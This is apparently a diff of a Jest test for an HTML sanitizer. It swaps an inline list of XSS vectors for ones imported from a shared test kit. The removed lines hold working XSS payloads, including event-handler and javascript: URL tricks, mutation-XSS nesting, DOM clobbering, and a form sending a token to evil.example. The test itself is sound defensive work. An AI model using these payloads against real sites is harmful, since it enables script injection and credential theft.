@@ -1,36 +1,20 @@
 import { sanitize } from "../../../../../src/features/catalog/detail/sanitize";
+import { vectorFamilies } from "../../../../kit/xss";
 
-const vectors = [
-	"<script>xss()</script>",
-	"<img src=x onerror=xss()>",
-	"<svg onload=xss()><script>xss()</script></svg>",
-	"<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
-	"<a href='javascript:xss()'>go</a>",
-	"<a href='java\nscript:xss()'>go</a>",
-	"<a href=' &#106;avascript:xss()'>go</a>",
-	"<a href='data:text/html,<script>xss()</script>'>go</a>",
-	"<p onclick=xss() style='position:fixed;inset:0'>covers</p>",
-	"<form action='https://evil.example'><input name=token><button>send</button></form>",
-	"<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
-	"<noscript><p title='</noscript><img src=x onerror=xss()>'></noscript>",
-	"<template><script>xss()</script></template>",
-	"<object data='javascript:xss()'></object><embed src='javascript:xss()'>",
-	"<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=javascript:xss()'>",
-	"<link rel=stylesheet href='https://evil.example/x.css'><style>body{display:none}</style>",
-	"<details open ontoggle=xss()>x</details>",
-	"<p id=content name=body class=button data-state=active aria-hidden=true>clobbers</p>",
-	"<video><source onerror=xss()></video><audio src=x onerror=xss()>",
-];
+/** jsdom is slow with very long texts. The browser test of hostile texts has them. */
+const vectors = Object.values(vectorFamilies)
+	.flatMap((family) => Object.entries(family))
+	.filter(([, vector]) => vector.length < 1_000);
 
 const safeTags = /^(A|B|BLOCKQUOTE|CODE|DIV|EM|H[2-6]|I|LI|OL|P|PRE|SPAN|STRONG|TABLE|TBODY|TD|TH|TR|U|UL)$/;
 const safeAttributes = new Set(["href", "title", "lang", "dir", "target", "rel"]);
 
-test.each(vectors)("removes everything that runs, loads, submits or covers the page: %s", (html) => {
+test.each(vectors)("removes everything that runs, loads, submits or covers the page: %s", (_, vector) => {
 	const xss = jest.fn();
 	Object.assign(window, { xss });
 	const box = document.createElement("div");
 	document.body.append(box);
-	box.innerHTML = String(sanitize(`<p>kept</p>${html}`));
+	box.innerHTML = String(sanitize(`<p>kept</p>${vector}`));
 	for (const element of box.querySelectorAll("*")) {
 		expect(element.tagName).toMatch(safeTags);
 		for (const { name } of element.attributes) expect(safeAttributes).toContain(name);
